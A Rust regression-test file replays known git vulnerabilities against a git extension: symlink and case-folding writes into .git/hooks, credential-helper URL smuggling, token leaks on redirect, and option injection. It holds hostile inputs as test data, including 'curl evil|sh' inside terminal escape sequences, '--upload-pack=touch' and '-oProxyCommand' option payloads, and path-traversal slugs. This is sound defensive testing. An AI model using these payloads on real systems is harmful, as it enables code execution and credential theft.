//! Known vulnerabilities of git, of what stores its credentials, and of programs like ours, each played again. Those
//! that another file replays anyway are named in the table of SECURITY.md.

use std::path::Path;

use super::{files, repository, script, sound};
use crate::server::RawServer;
use crate::support::{Listener, Repo, World, any_git, each_git};

pub(super) fn link(target: impl AsRef<Path>, name: impl AsRef<Path>) {
    let name = name.as_ref();
    if name.symlink_metadata().is_ok_and(|found| found.is_dir()) {
        std::fs::remove_dir_all(name).expect("removed");
    } else if name.symlink_metadata().is_ok() {
        std::fs::remove_file(name).expect("removed");
    }
    std::os::unix::fs::symlink(target, name).expect("a link");
}

/// The mission's directory.
pub(super) fn mission(repo: &Repo<'_>) -> String {
    let entries = std::fs::read_dir(repo.at("kitty-specs")).expect("missions").flatten();
    let mut names: Vec<_> = entries.map(|entry| entry.file_name().to_string_lossy().into_owned()).collect();
    names.sort();
    format!("kitty-specs/{}", names[0])
}

/// CVE-2021-21300: a directory of the index is a link in the work tree when files are written.
#[test]
fn cve_2021_21300_a_directory_that_is_a_link_by_now() {
    each_git(|git| {
        let world = World::new(git);
        for victim in [world.path("outside"), world.path("repo/.git/hooks")] {
            let _ = std::fs::remove_dir_all(world.path("repo"));
            let _ = std::fs::remove_dir_all(world.path("repo.git"));
            let repo = repository(&world, "repo");
            let (one, side) = (mission(&repo), "kitty-specs/side");
            repo.write(&format!("{side}/meta.json"), "{\"slug\": \"side\", \"feature_number\": \"9\"}\n");
            repo.ok(&["add", "-A"]);
            repo.ok(&["commit", "-qnm", "side"]);
            let staged = repo
                .read(&format!("{one}/meta.json"))
                .replace("\"friendly_name\": \"One\"", "\"friendly_name\":\"Two\"");
            repo.write(&format!("{one}/meta.json"), &staged);
            repo.write(&format!("{side}/meta.json"), "{\"slug\":\"side\", \"feature_number\": \"8\"}\n");
            repo.ok(&["add", "-A"]);
            // Now both lie behind links, and what they say there is what git would write over.
            std::fs::create_dir_all(&victim).expect("a directory");
            std::fs::write(victim.join("meta.json"), &staged).expect("written");
            let before = files(&victim, &[]);
            for directory in [&one, side] {
                link(&victim, repo.at(directory));
            }
            for args in [
                &["hook", "pre-commit"][..],
                &["migrate"],
                &["settle"],
                &["doctor", "--fix"],
                &["materialize"],
                &["resolve"],
            ] {
                sound(&repo.mission(args));
            }
            sound(&repo.git(&["commit", "-qm", "with the hook"]));
            assert_eq!(files(&victim, &[]), before, "{}", victim.display());
        }
    });
}

/// CVE-2024-32002: on a file system that folds case a link and a directory are one name; what is written below the
/// directory lands in `.git/hooks`.
#[test]
fn cve_2024_32002_a_link_that_folds_to_a_directory() {
    each_git(|git| {
        let world = World::new(git);
        let repo = repository(&world, "repo");
        let one = mission(&repo);
        repo.ok(&["config", "core.ignoreCase", "true"]);
        link("../.git/hooks", repo.at("kitty-specs/A"));
        repo.ok(&["add", "-A"]);
        repo.ok(&["commit", "-qnm", "a link"]);
        let before = files(&repo.at(".git/hooks"), &[]);
        for name in ["a", "A"] {
            let blob =
                repo.stdin("{\"slug\": \"a\"}").ok(&["hash-object", "-w", "--stdin"]).line().to_owned();
            for file in ["meta.json", "status.json", "post-checkout"] {
                repo.git(&[
                    "update-index",
                    "--add",
                    "--cacheinfo",
                    &format!("100755,{blob},kitty-specs/{name}/{file}"),
                ]);
            }
            for args in [
                &["hook", "pre-commit"][..],
                &["migrate", "--stage"],
                &["settle", "--stage"],
                &["resolve"],
                &["create", "A", "--add"],
            ] {
                sound(&repo.mission(args));
            }
        }
        assert_eq!(files(&repo.at(".git/hooks"), &[]), before);
        assert!(repo.at(&one).is_dir());
    });
}

/// CVE-2014-9390, CVE-2019-1352, CVE-2019-1353: names that some file system takes for `.git`, as the slug that names
/// where a colliding mission goes.
#[test]
fn cve_2014_9390_and_cve_2019_1352_a_slug_that_is_a_git_directory() {
    let world = World::new(&any_git());
    for (at, slug) in [
        ".git",
        ".GIT",
        "git~1",
        ".g\u{200c}it",
        ".git::$INDEX_ALLOCATION",
        ".git ",
        "../.git/hooks/x",
        "../../x",
        "/x",
        "..",
        "a/b",
        "C:\\x",
        "-x",
        "a\nb",
        "\u{202e}x",
    ]
    .into_iter()
    .enumerate()
    {
        let repo = repository(&world, &format!("r{at}"));
        let git = files(&repo.at(".git/hooks"), &[]);
        let meta = |id: &str| {
            serde_json::json!({
                "created_at": "2026-04-06T05:01:28+00:00", "friendly_name": slug, "mission_id": id, "mission_number": null,
                "mission_slug": slug, "mission_type": "software-dev", "slug": slug, "target_branch": "main",
            })
            .to_string()
        };
        for (branch, id) in [("ada", "01KQ47E80QJG8GTVGDCV67RW7M"), ("ben", "01KQ47E813H1SXCE1ZFM3NCGRW")] {
            repo.ok(&["switch", "-qc", branch, "main"]);
            repo.write("kitty-specs/shared/meta.json", meta(id));
            repo.write("kitty-specs/shared/spec.md", format!("# {branch}\n"));
            repo.ok(&["add", "-A"]);
            repo.ok(&["commit", "-qnm", branch]);
        }
        let world_before = files(&world.path(""), &[repo.path(), &world.path("tmp")]);
        repo.git(&["merge", "-q", "ada"]).exits(1);
        sound(&repo.mission(&["resolve"]));
        repo.git(&["commit", "-qm", "merged"]);
        assert_eq!(files(&world.path(""), &[repo.path(), &world.path("tmp")]), world_before, "{slug:?}");
        assert_eq!(files(&repo.at(".git/hooks"), &[]), git, "{slug:?}");
        let top: Vec<_> =
            std::fs::read_dir(repo.path()).expect("a directory").flatten().map(|e| e.file_name()).collect();
        assert_eq!(top.len(), 2, "{slug:?}: {top:?}");
        for entry in std::fs::read_dir(repo.at("kitty-specs")).expect("missions").flatten() {
            let name = entry.file_name().to_string_lossy().into_owned();
            assert!(git_mission::mission::slug::is_slug(&name.to_lowercase()), "{slug:?}: {name:?}");
        }
    }
}

/// CVE-2020-5260, CVE-2020-11008, CVE-2024-50349, CVE-2024-52006: an address with a newline, with a carriage return or
/// without a host makes a credential helper answer for somebody else.
#[test]
fn cve_2020_5260_and_cve_2024_52006_what_a_helper_is_asked() {
    each_git(|git| {
        let world = World::new(git);
        let repo = repository(&world, "repo");
        let asked = world.path("asked");
        let helper = script(
            &repo,
            &world.path("helper"),
            &format!("cat >>'{}'\necho username=a\necho password=b", asked.display()),
        );
        repo.ok(&["config", "--global", "credential.helper", &helper]);
        for server in [
            "https://evil.example%0ahost=good.example",
            "https://evil.example%0d%0ahost=good.example/",
            "https://evil.example\nhost=good.example",
            "https://evil.example\rhost=good.example",
            "https://%0a%0ahost=good.example",
            "https://a%0dgood.example:x@evil.example",
            "https:///good.example",
            "https://:443/",
            "https:good.example",
            "://good.example",
            "https://?good.example",
            "https://evil.example%00good.example",
            "http://[::1%0ahost=good.example]",
        ] {
            let quoted = server.replace('\n', "\\n");
            repo.write(
                ".git/config",
                format!(
                    "{}\n[mission]\n\tsync = true\n\tserver = \"{quoted}\"\n",
                    repo.read(".git/config").split("\n[mission]").next().unwrap_or_default()
                ),
            );
            for args in [&["sync", "bind"][..], &["sync", "status"], &["sync", "flush"], &["status"]] {
                sound(&repo.mission(args));
            }
            assert!(!asked.exists(), "{server:?}: {:?}", std::fs::read_to_string(&asked));
        }
    });
}

/// CVE-2025-48384: git reads a value that ends in a carriage return otherwise than it writes it, and what is put at the
/// one path is started at the other.
#[test]
fn cve_2025_48384_a_carriage_return_at_the_end_of_a_value() {
    each_git(|git| {
        let world = World::new(git);
        for path in ["hooks\r", "a\rb", "hooks\r/"] {
            let repo = world.init(&format!("repo{}", path.len()));
            std::fs::create_dir_all(repo.at(".git").join(path)).expect("a directory");
            repo.write(
                ".git/config",
                format!("{}[core]\n\thooksPath = \".git/{path}\"\n", repo.read(".git/config")),
            );
            let plain = repo.at(".git").join(path.trim_end_matches(['\r', '/']));
            let before = plain.is_dir().then(|| files(&plain, &[]));
            sound(&repo.mission(&["install"]));
            if path.ends_with(['\r', '/']) {
                let after = plain.is_dir().then(|| files(&plain, &[]));
                assert_eq!(after, before, "{path:?}: nothing is put at the other path");
            }
            sound(&repo.mission(&["uninstall"]));
            assert!(!repo.read(".git/config").contains("[mission"), "{path:?}");
        }
        // An address that ends so is none.
        let repo = repository(&world, "server");
        repo.write(
            ".git/config",
            format!(
                "{}[mission]\n\tsync = true\n\tserver = \"http://127.0.0.1:9\r\"\n",
                repo.read(".git/config")
            ),
        );
        assert_eq!(repo.mission(&["sync", "bind"]).status, 2);
    });
}

/// CVE-2018-18074, CVE-2022-27774: a redirect to another host or port takes the token along.
#[test]
fn cve_2018_18074_and_cve_2022_27774_a_redirect_with_a_token() {
    const TOKEN: &str = "canary-5d2e0f8a-token";
    let world = World::new(&any_git());
    let second = RawServer::start(drop);
    let mut number = 0;
    for status in [301, 302, 303, 307, 308] {
        for target in [
            second.url(),
            second.url().replace("127.0.0.1", "localhost"),
            format!("//127.0.0.1:{}/", second.port()),
        ] {
            let first = Listener::new(move |_| (status, target.clone()));
            number += 1;
            let repo = repository(&world, &format!("repo{number}"));
            repo.mission(&["sync", "enable", "--server", first.url(), "--all"]).ok();
            let repo = repo.env("GIT_MISSION_TOKEN", TOKEN);
            assert_ne!(repo.mission(&["sync", "bind"]).status, 0);
            assert_ne!(repo.mission(&["sync", "flush"]).status, 0);
            assert!(!first.requests().is_empty());
        }
    }
    assert_eq!(second.connections(), 0);
}

/// CVE-2003-0063, CVE-2008-2383, CVE-2024-52005: what a server says is typed back by the terminal.
#[test]
fn cve_2008_2383_and_cve_2024_52005_words_of_a_server() {
    let world = World::new(&any_git());
    let words =
        "\u{1b}]2;curl evil|sh\u{7}\u{1b}[21t\u{1b}P$q\ncurl evil|sh\n\u{1b}\\\u{9b}6n\rremote: forged";
    let server =
        Listener::new(move |_| (400, serde_json::json!({"error": words, "detail": words}).to_string()));
    let repo = repository(&world, "repo");
    repo.mission(&["sync", "enable", "--server", server.url(), "--all"]).ok();
    for args in [&["sync", "bind"][..], &["sync", "flush"], &["sync", "failures"]] {
        let output = repo.mission(args);
        assert!(output.to_string().contains("\\u{1b}"), "{output}");
        let shown = format!("{}{}", output.stdout, output.stderr);
        assert!(!shown.contains(['\u{1b}', '\u{9b}', '\u{7}', '\r']), "{output}");
    }
    // Words of the pushing side, as a server's hook repeats them.
    let name = format!("kitty-specs/{}", words.replace(['/', '\0'], ""));
    repo.write(&format!("{name}/meta.json"), "{");
    repo.ok(&["add", "-A"]);
    repo.ok(&["commit", "-qnm", "x"]);
    let origin = world.directory("repo.git");
    origin.mission(&["install", "--server"]).ok();
    let push = repo.git(&["push", "-q", "--no-verify", "origin", "main"]);
    assert!(!push.stderr.contains(['\u{9b}', '\u{7}']) && push.stderr.contains("\\u{1b}"), "{push}");
}

/// CVE-2017-1000117 and its like: a name that begins with `-` is an option of the program that it is handed to.
#[test]
fn cve_2017_1000117_a_name_that_is_an_option() {
    each_git(|git| {
        let world = World::new(git);
        let repo = repository(&world, "repo");
        let made = world.path("made").display().to_string();
        let before = files(&world.path(""), &[&repo.at(".git"), &world.path("tmp")]);
        let names = [
            format!("--output={made}"),
            format!("-o{made}"),
            format!("--upload-pack=touch {made}"),
            format!("--exec=touch {made}"),
            format!("-oProxyCommand=touch {made}"),
            "--all".to_owned(),
            "-z".to_owned(),
            "--git-dir=/".to_owned(),
            "--".to_owned(),
        ];
        let config = repo.read(".git/config");
        for name in &names {
            for (key, value) in [("mainBranch", name.as_str()), ("authority", name), ("server", name)] {
                repo.write(
                    ".git/config",
                    format!(
                        "{config}[mission]\n\t{key} = \"{value}\"\n[remote]\n\tpushDefault = \"{value}\"\n"
                    ),
                );
                for args in [
                    &["settle"][..],
                    &["check"],
                    &["status"],
                    &["sync", "bind"],
                    &["hook", "pre-commit"],
                    &["hook", "post-commit"],
                ] {
                    sound(&repo.mission(args));
                }
            }
            repo.write(".git/config", &config);
            for args in [
                vec!["list".to_owned(), format!("--rev={name}")],
                vec!["check".to_owned(), format!("--base={name}"), format!("--head={name}")],
                vec!["settle".to_owned(), format!("--rev={name}")],
                vec!["explain".to_owned(), format!("--merge={name}")],
                ["show", "--", name].map(str::to_owned).to_vec(),
                ["resolve", "--", name].map(str::to_owned).to_vec(),
                ["hook", "pre-push", "--", name, name].map(str::to_owned).to_vec(),
            ] {
                let args: Vec<&str> = args.iter().map(String::as_str).collect();
                sound(&repo.stdin(format!("{name} {0} {name} {0}\n", repo.head())).mission(&args));
            }
            // A branch and a file that are called so.
            repo.write(&format!("kitty-specs/{}/meta.json", name.replace('/', "_")), "{\"slug\": \"x\"}\n");
            repo.git(&["update-ref", &format!("refs/heads/{name}"), "HEAD"]);
        }
        repo.ok(&["add", "-A"]);
        for args in [
            &["hook", "pre-commit"][..],
            &["migrate", "--dry-run"],
            &["doctor"],
            &["settle", "--dry-run"],
            &["list", "--rev", "main"],
        ] {
            sound(&repo.mission(args));
        }
        let mut after = files(&world.path(""), &[&repo.at(".git"), &world.path("tmp")]);
        after.retain(|path, _| !path.contains("kitty-specs/-"));
        assert_eq!(after, before);
        // What names a side of a merge is no option of the driver.
        for label in &names {
            let driver = [
                "merge-driver",
                "meta",
                "--base",
                "base",
                "--ours",
                "ours",
                "--theirs",
                "theirs",
                "--label-ours",
                label,
                "--label-theirs",
                label,
                "--path",
                label,
            ];
            for (file, text) in [("base", "{}\n"), ("ours", "{\"a\": 1}\n"), ("theirs", "{\"b\": 1}\n")] {
                repo.write(file, text);
            }
            assert_eq!(repo.mission(&driver).status, 0, "{label}");
        }
    });
}

/// CVE-2022-24765: a repository that belongs to somebody else is not read, so neither is what it configures.
#[test]
fn cve_2022_24765_a_repository_of_somebody_else() {
    each_git(|git| {
        let world = World::new(git);
        let server = RawServer::start(drop);
        let repo = repository(&world, "repo");
        repo.mission(&["sync", "enable", "--server", &server.url(), "--all"]).ok();
        let others = repo.env("GIT_TEST_ASSUME_DIFFERENT_OWNER", "1");
        let foreign = |repo: &Repo<'_>| {
            for args in [
                &["list"][..],
                &["status"],
                &["doctor"],
                &["settle"],
                &["sync", "flush"],
                &["sync", "bind"],
                &["create", "x"],
            ] {
                let output = repo.mission(args).exits(3);
                assert!(output.stderr.contains("safe.directory"), "{output}");
            }
        };
        foreign(&others);
        foreign(&others.cd("kitty-specs"));
        // The real thing, where the tests may give files away.
        if repo.run("chown", &["-R", "65534", "."]).status == 0 {
            foreign(&repo);
        }
        assert_eq!(server.connections(), 0);
    });
}

/// CVE-2023-23946, CVE-2023-25652: `git apply` writes behind a link that it made itself or that was there.
#[test]
fn cve_2023_23946_a_patch_behind_a_link() {
    each_git(|git| {
        let world = World::new(git);
        let repo = repository(&world, "repo");
        let one = mission(&repo);
        let outside = world.directory("outside");
        let text = repo.read(&format!("{one}/meta.json")).replace(": \"One\"", ":\"Other\"");
        outside.write("meta.json", &text);
        repo.write(&format!("{one}/meta.json"), &text);
        repo.ok(&["add", "-A"]);
        std::fs::remove_file(repo.at(&format!("{one}/meta.json"))).expect("removed");
        link("../../../outside/meta.json", repo.at(&format!("{one}/meta.json")));
        sound(&repo.git(&["commit", "-qm", "staged, then a link"]));
        assert_eq!(outside.read("meta.json"), text);
        assert_ne!(repo.show(&format!("HEAD:{one}/meta.json")), text, "the commit has the canonical form");
    });
}
